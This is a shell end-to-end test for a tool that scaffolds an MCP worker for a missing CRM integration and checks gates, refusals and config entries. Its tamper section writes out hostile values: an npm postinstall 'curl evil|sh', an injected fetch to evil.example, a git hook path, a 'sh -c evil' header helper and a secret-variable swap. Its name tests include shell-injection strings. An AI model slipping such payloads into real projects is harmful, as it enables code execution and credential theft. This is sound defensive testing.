#!/bin/sh
# SPDX-License-Identifier: MIT
# e2e-worker.sh: Path C from the name to the bytes: gate, decision record, scaffold, entries, row; and what is refused. TAP.
. "$(dirname "$0")/e2e-lib.sh"

TOOLGAP_NOW=2026-11-21T10:00:00Z
export TOOLGAP_NOW
all_connected
vendors
crm='Foo Bar CRM' gtm='Google Tag Manager'
record=docs/decisions/adr-001-foobarcrm-worker.md worker=workers/foobarcrm-mcp

refused() { # CODE TITLE: one sentence, and nothing written
	[ "$rc" -eq "$1" ] && [ "$(wc -l <"$err")" -eq 1 ] && grep -q '^toolgap: ' "$err"
	say $? "$2: exit $1, one sentence"
}
file_has() { grep -qF -e "$2" "$W/$1"; say $? "$3"; } # FILE TEXT NAME
as_first() {
	diff -r -x .local "$first" "$box" >"$tmp/diff" 2>&1
	r=$?
	[ $r -eq 0 ] || sed 's/^/#   /' "$tmp/diff" | head -n 20
	say $r "$1: the same bytes in every file"
}

# The verdict, and the plan
fresh
keep empty
tg triage "$crm" --urgent --json
code 0 'triage of what cannot wait'
has '"verdict": "worker"' 'says worker'
has '"path": "C"' 'and Path C'
tg plan "$crm" --urgent --reason absent --tenant ascend,kahuna --json --out "$tmp/plan.json"
code 0 'the plan'
same "$out" "$tmp/plan.json" 'what is saved is what is shown'
has '"path": "C"' 'its path'
has '"create": 11' 'a record and ten files of a worker are new'
has '"modify": 6' 'five clients and the registry change'
has '"secrets_found": 0' 'no secret'
for kind in adr worker mcp-entry registry; do
	has "\"kind\": \"$kind\"" "a file of kind $kind"
done
untouched empty 'nothing is written'
[ -z "$(creating)" ]
say $? 'and nothing is created at a vendor'

# Applied
tg apply "$tmp/plan.json"
code 0 'apply'
first=$box
file_has $record '# ADR-001: a dedicated worker for Foo Bar CRM' 'the record has its title'
file_has $record '- Status: draft' 'its status'
file_has $record '- Date: 2026-11-21' 'its day'
file_has $record '- Reason: absent from both catalogs' 'its reason'
file_has $record 'Composio, asked 2026-11-21 for "Foo Bar CRM" in 5 spellings: not in the catalog of 70 toolkits.' 'what Composio said'
file_has $record 'Pipedream, asked 2026-11-21: not in the catalog.' 'what Pipedream said'
file_has $record '/connect/apps/foobarcrm' 'each question'
file_has $record 'FOOBARCRM_MCP_TOKEN' 'the checklist'
for f in package.json wrangler.jsonc tsconfig.json .gitignore .dev.vars.example README.md src/index.ts src/auth.ts src/mcp.ts src/tools.ts; do
	[ -s "$W/$worker/$f" ] || echo "#   $f"
done >"$tmp/missing"
[ ! -s "$tmp/missing" ]
say $? 'the scaffold is whole'
! grep -rqF '@@' "$W/$worker" "$W/$record"
say $? 'no gap is left'
file_has $worker/wrangler.jsonc '"TENANTS": "ascend,kahuna"' 'it knows its tenants'
file_has $worker/.gitignore '.dev.vars*' 'its secrets are ignored by git'
grep -qx 'MCP_TOKEN=' "$W/$worker/.dev.vars.example"
say $? 'and the example has names only'
file_has docs/composio/toolkit-registry.md '| `foobarcrm` | `CF_WORKER` | `worker-fbc-ascend` | `worker-fbc-kahuna` | `foobarcrm_*` | `PENDING` | Path C, ADR-001 (absent from both catalogs). Composio, asked 2026-11-21' 'the row'
for f in .mcp.json .cursor/mcp.json .vscode/mcp.json .codex/config.toml; do
	file_has $f worker-fbc-ascend "$f has the entry"
	file_has $f worker-fbc-kahuna "$f has the other"
done
grep -qF worker-fbc-kahuna "$H/.codeium/windsurf/mcp_config.json"
say $? 'so has Windsurf'
file_has .mcp.json '"Authorization": "Bearer ${FOOBARCRM_MCP_TOKEN}"' 'with a reference'
file_has .mcp.json '"x-tenant": "kahuna"' 'and the tenant'
file_has .codex/config.toml 'bearer_token_env_var = "FOOBARCRM_MCP_TOKEN"' 'in the form of each client'
tg check
code 0 'check finds no drift'
no_secret 'no secret anywhere'
cp -a "$box" "$tmp/applied"
first=$tmp/applied
tg undo
bytes_as empty 'undo takes all of it away, folders too'

# The other front ends
printf '%s\n' "provider: $crm" 'tenants: ascend, kahuna' 'wait: no' 'reason: absent' 'worker-short: fbc' \
	'worker-url: http://127.0.0.1:8787/mcp' 'confirm: yes' >"$tmp/answers"
front() { # TITLE ARGUMENT…
	title=$1
	shift
	fresh
	tg "$@"
	code 0 "$title"
	as_first "$title"
}
front 'an answers file with nobody there' wizard --ui=none --answers "$tmp/answers"
has '17 files written' 'says what it did'
has "Next: cd $worker && npm install && npm run dev" 'and what comes next'
front 'flags with nobody there' wizard "$crm" --tenant ascend,kahuna --urgent --ui=none --yes --record "$tmp/rec"
same "$tmp/answers" "$tmp/rec" 'and records the same answers'
front 'the full screen without a terminal' wizard --screen 80x24 --answers "$tmp/answers"
fresh
printf '%s\n' "$crm" 'ascend, kahuna' 2 4 '' '' apply >"$tmp/typed"
(cd "$W" && exec "$TOOLGAP" wizard --ui=line) >"$out" 2>"$err" <"$tmp/typed"
rc=$?
code 0 'line mode, typed'
as_first 'line mode, typed'
fresh
keep dry
tg wizard --ui=none --dry-run --answers "$tmp/answers"
code 0 'a dry run'
untouched dry 'writes nothing'

# The gate
tg plan "$gtm" --path C --tenant ascend
refused 2 'no reason where Pipedream has it'
err_has 'Give it with --reason' 'names the option'
tg plan "$gtm" --path C --tenant ascend --reason absent
refused 2 'absent is no reason where Pipedream has it'
err_has 'latency, signing, residency' 'names those that are'
tg plan "$gtm" --path C --tenant ascend --reason because
refused 2 'a reason that is none'
untouched dry 'nothing is written by these'
echo 'composio-candidate: none' >"$tmp/none"
tg wizard "$gtm" --path C --tenant ascend --reason signing --ui=none --yes --answers "$tmp/none"
code 0 'an overrule with a reason'
has "Pipedream has google_tag_manager, so the runbook's way is Path D" 'is told'
record2=docs/decisions/adr-001-googletagmanager-worker.md
file_has $record2 '- Reason: request signing' 'stands in the record'
file_has $record2 'The operator overruled it' 'as an overrule'
file_has docs/composio/toolkit-registry.md 'ADR-001 (request signing)' 'and in the row'

# Unknown is never absent: who overruled that has no "absent" for a reason
vendors --fault 'composio:status=500'
fresh
keep sick
tg plan "$crm" --urgent --tenant ascend
code 10 'a catalog that cannot be asked'
printf '%s\n' 'composio-unknown: overrule' >"$tmp/over"
tg wizard "$crm" --tenant ascend --urgent --reason absent --ui=none --yes --answers "$tmp/over"
refused 2 'overruled, and absent for a reason'
bytes_as sick 'nothing is written by these'
tg wizard "$crm" --tenant ascend --urgent --reason latency --ui=none --yes --answers "$tmp/over"
code 0 'overruled, with another reason'
file_has $record 'Composio could not be asked' 'the record says so'
vendors

# An address that only the plan knows
fresh
tg plan "$crm" --urgent --tenant ascend --client claude-code,codex --worker-url https://crm.example.com/mcp --out "$tmp/plan.json"
code 0 'a worker elsewhere'
keep elsewhere
tg apply --yes "$tmp/plan.json"
refused 2 'its host is asked for'
err_has 'apply --trust-host crm.example.com' 'with the command that names it'
tg apply --trust-host example.com,crm.example.com.evil "$tmp/plan.json"
refused 2 'another host is not it'
bytes_as elsewhere 'nothing is written'
tg apply --trust-host crm.example.com "$tmp/plan.json"
code 0 'named, it is applied'
err_has 'The entries of this plan lead to crm.example.com.' 'and where they lead is said'
fresh
echo 'worker_domain: example.com' >>"$W/toolgap.yaml"
tg plan "$crm" --urgent --tenant ascend --client claude-code --worker-url https://crm.example.com/mcp --out "$tmp/plan.json"
tg apply "$tmp/plan.json"
code 0 "the workspace's own domain is known"
# Numbers
fresh
mkdir -p "$W/docs/decisions"
printf '# ADR-7\n\nAfter ADR-0041, before adr-12.\n' >"$W/docs/decisions/0007-first.md"
printf 'none\n' >"$W/docs/decisions/2026-05-20-notes.md"
tg wizard "$crm" --tenant ascend --urgent --ui=none --yes --client claude-code
code 0 'a folder with records'
[ -f "$W/docs/decisions/adr-0042-foobarcrm-worker.md" ]
say $? 'the next number after all files and references, as wide as theirs'
tg plan "$crm" --urgent --tenant ascend --client claude-code
code 0 'the same walk again'
has 'no file changes' 'changes nothing'
[ "$(ls "$W/docs/decisions" | grep -c foobarcrm)" -eq 1 ]
say $? 'and makes no second record'
fresh
tg plan "$crm" --urgent --tenant ascend --out "$tmp/plan.json"
mkdir -p "$W/docs/decisions"
echo taken >"$W/docs/decisions/adr-001-other.md"
keep taken
tg apply "$tmp/plan.json"
refused 5 'a number that was taken meanwhile'
err_has 'adr-001-other.md has taken it' 'by whom'
bytes_as taken 'nothing is written'
fresh
(
	printf '%s\n' "$crm" ascend 2 4 '' ''
	i=0
	until grep -q 'Type apply' "$out" || [ $i -ge 200 ]; do
		i=$((i + 1))
		sleep 0.05
	done
	mkdir -p "$W/docs/decisions"
	echo taken >"$W/docs/decisions/ADR-001-mine.md"
	echo apply
) | (cd "$W" && exec "$TOOLGAP" wizard --ui=line) >"$out" 2>"$err"
rc=$?
code 5 'taken between the preview and the answer'
[ ! -e "$W/workers" ] && ! grep -q foobarcrm "$W/docs/composio/toolkit-registry.md"
say $? 'nothing is written'

# A folder that is there
fresh
mkdir -p "$W/$worker"
echo '{}' >"$W/$worker/package.json"
keep theirs
tg plan "$crm" --urgent --tenant ascend
refused 1 'a worker that toolgap did not begin'
err_has "$worker is there already" 'names it'
bytes_as theirs 'nothing is written'
fresh
tg wizard "$crm" --tenant ascend --urgent --ui=none --yes
echo '// mine' >>"$W/$worker/src/tools.ts"
cp "$W/$worker/src/tools.ts" "$tmp/mine.ts"
printf '%s\n' 'known: tenants' >"$tmp/known"
tg wizard "$crm" --tenant ascend,kahuna --urgent --ui=none --yes --answers "$tmp/known"
code 0 'a further tenant'
has 'is there from an earlier walk' 'the worker is yours by now'
same "$tmp/mine.ts" "$W/$worker/src/tools.ts" 'and stays as you have it'
file_has docs/composio/toolkit-registry.md '| `worker-fbc-ascend` | `worker-fbc-kahuna` |' 'the row has both'
[ "$(grep -c 'Path C, ADR-' "$W/docs/composio/toolkit-registry.md")" -eq 1 ]
say $? 'and says why once'

# From this machine to the address of the deployed worker
tg wizard "$crm" --tenant ascend,kahuna --urgent --ui=none --yes --answers "$tmp/known" --worker-url https://foobarcrm-mcp.team.workers.dev/mcp
code 0 'deployed'
grep -q '127.0.0.1:8787' "$W/.mcp.json" "$W/.codex/config.toml" "$H/.codeium/windsurf/mcp_config.json"
say "$([ $? -ne 0 ]; echo $?)" 'no entry leads to this machine any more'
file_has .codex/config.toml 'url = "https://foobarcrm-mcp.team.workers.dev/mcp"' 'all lead to the worker'
keep deployed
tg plan "$crm" --tenant ascend,kahuna --urgent --worker-url https://elsewhere.example/mcp
refused 1 'an entry that leads elsewhere'
err_has "is not toolgap's" 'is not ours to change'
for url in http://example.com/mcp 'https://u:p@example.com/mcp' 'https://x.example/${HOME}' 'https://' 'ftp://x' 'https://x.example/a b'; do
	tg plan "$crm" --tenant ascend --urgent --worker-url "$url"
	[ "$rc" -eq 2 ]
	say $? "no worker at '$url'"
done
bytes_as deployed 'nothing is written by these'
fresh
echo 'worker_domain: my-team.workers.dev' >>"$W/toolgap.yaml"
tg plan "$crm" --urgent --tenant ascend
code 0 'a domain in the settings'
has 'https://foobarcrm-mcp.my-team.workers.dev/mcp' 'gives the address'
echo 'worker_domain: Evil.example/x' >"$W/toolgap.yaml"
tg plan "$crm" --urgent --tenant ascend
refused 1 'a domain that is none'

# Names
fresh
tg wizard '"$(touch x)" `id` */ ${process.exit()} \' --tenant ascend --urgent --ui=none --yes
code 0 'a name full of signs'
worker3=$(cd "$W" && echo workers/*-mcp)
file_has "$worker3/src/tools.ts" 'const provider = "\"$(touch x)\" `id` */ ${process.exit()} \\";' 'is a string of the code'
if [ -n "$python3" ]; then
	"$python3" -c 'import json,sys; json.load(open(sys.argv[1])); json.loads("".join(l for l in open(sys.argv[2]) if not l.lstrip().startswith("//")))' \
		"$W/$worker3/package.json" "$W/$worker3/wrangler.jsonc" >"$tmp/out.py" 2>&1
	say $? 'and the JSON is JSON'
fi
fresh
keep name
echo 'native-unknown: without' >"$tmp/without"
tg wizard 'Ünïcode CRM' --urgent --tenant ascend --ui=none --dry-run --answers "$tmp/without"
refused 2 'a name that is not of ASCII'
err_has 'Give it with --short' 'wants a short name'
tg wizard 'Ünïcode CRM' --urgent --tenant ascend --ui=none --dry-run --answers "$tmp/without" --short unicode
code 0 'and has one'
has 'workers/unicode-mcp/package.json' 'which is its slug'
has 'The official MCP registry could not be asked, and the operator went on without it.' 'unknown stays unknown in the record'

# A hostile hand in the plan
if [ -n "$python3" ]; then
	tg plan "$crm" --urgent --tenant ascend --out "$tmp/plan.json"
	hostile() { # TITLE PATH NEWPATH [FROM TO]
		title=$1
		shift
		"$python3" "$(dirname "$0")/plan-edit.py" "$tmp/plan.json" "$tmp/evil.json" "$@" >"$tmp/py.out" 2>&1 || {
			say 1 "$title: $(tail -n 1 "$tmp/py.out")"
			return
		}
		tg apply "$tmp/evil.json"
		[ "$rc" -eq 1 ] && [ "$(wc -l <"$err")" -eq 1 ]
		say $? "$title is refused"
	}
	hostile 'other code' $worker/src/index.ts - 'const BODY_MAX' 'fetch("https://evil.example");const BODY_MAX'
	hostile 'a script that npm runs' $worker/package.json - '"dev":' '"postinstall": "curl evil|sh", "dev":'
	hostile 'another worker of that code' $worker/package.json workers/other-mcp/package.json
	hostile 'a file beside' $worker/package.json $worker/evil.js
	hostile 'a way up' $worker/package.json workers/../x-mcp/package.json
	hostile 'a hook' $worker/package.json .git/hooks/pre-commit
	hostile 'secrets of the worker' $worker/.dev.vars.example $worker/.dev.vars
	hostile 'a record of another number' $record docs/decisions/adr-002-foobarcrm-worker.md
	hostile 'a record elsewhere' $record docs/adr-001-foobarcrm-worker.md
	hostile 'a record with an escape' $record - 'Status: draft' "$(printf 'Status: \033[2J')"
	hostile 'an entry that starts a program' .mcp.json - '"type": "http",' '"command": "sh",'
	hostile 'an entry with a helper' .mcp.json - '"type": "http",' '"headersHelper": "sh -c evil", "type": "http",'
	hostile 'an entry with another variable' .mcp.json - 'FOOBARCRM_MCP_TOKEN' 'AWS_SECRET_ACCESS_KEY'
	hostile 'other tenants in the worker' $worker/wrangler.jsonc - '"ascend"' '"ascend,evil"'
	bytes_as name 'nothing is written by these'
	tg apply "$tmp/plan.json"
	code 0 'the plan as it was made'
	tg apply "$tmp/plan.json"
	code 0 'and once more: nothing to do'
else
	skip 'no python3' 'a hostile hand in the plan'
fi
done_testing
